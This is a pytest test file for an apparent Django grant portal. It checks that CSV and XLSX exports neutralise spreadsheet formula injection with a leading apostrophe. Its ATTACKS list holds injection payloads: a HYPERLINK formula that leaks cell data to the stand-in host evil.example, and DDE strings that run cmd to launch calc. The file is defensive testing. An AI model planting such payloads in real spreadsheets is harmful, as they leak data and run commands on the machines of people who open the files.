"""Every export cell is neutralised against formula injection, by one function."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from vouchers.common.exports import neutralise_cell
from vouchers.intake.admin import ApplicationResource
from vouchers.tests.factories import CallFactory, complete_application
from wecd_portal.tests.factories import applicant, staff_member

ATTACKS = [
    '==HYPERLINK("https://evil.example/?leak="&F3&G3,"Open")',
    '=HYPERLINK("https://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_read_as_a_formula_gets_a_leading_apostrophe(attack):
    assert neutralise_cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "value",
    ["Prototype d’un meuble", "", "WECD-2014-001", Decimal("-5"), -3, 7.5, True, None, dt.date(2014, 10, 1)],
)
def test_plain_text_numbers_dates_and_booleans_pass_unchanged(value):
    assert neutralise_cell(value) == value


EXPORT = "/en/admin/vouchers/application/export/"


def export(client, file_format):
    data = {"format": file_format, "resource": "0"}
    data.update({f"applicationresource_{name}": "on" for name in ApplicationResource.Meta.fields})
    return client.post(EXPORT, data)


@pytest.mark.django_db
def test_the_staff_exports_never_carry_a_live_formula(client):
    call = CallFactory()
    for seed, attack in enumerate(ATTACKS, start=1):
        complete_application(call=call, owner=applicant(), seed=seed, title=attack)
    client.force_login(staff_member())

    rows = list(csv.DictReader(io.StringIO(export(client, "0").content.decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(export(client, "1").content)).active
    title_column = [cell.value for cell in sheet[1]].index("project title")
    xlsx_titles = [row[title_column] for row in sheet.iter_rows(min_row=2)]

    expected = sorted(_lines("'" + attack) for attack in ATTACKS)
    assert sorted(_lines(row["project title"]) for row in rows) == expected
    assert sorted(_lines(cell.value) for cell in xlsx_titles) == expected
    assert {cell.data_type for cell in xlsx_titles} == {"s"}  # text, never "f" (a formula)


def _lines(text):
    """The spreadsheet formats may write a lone carriage return as a line feed."""
    return text.replace("\r", "\n")
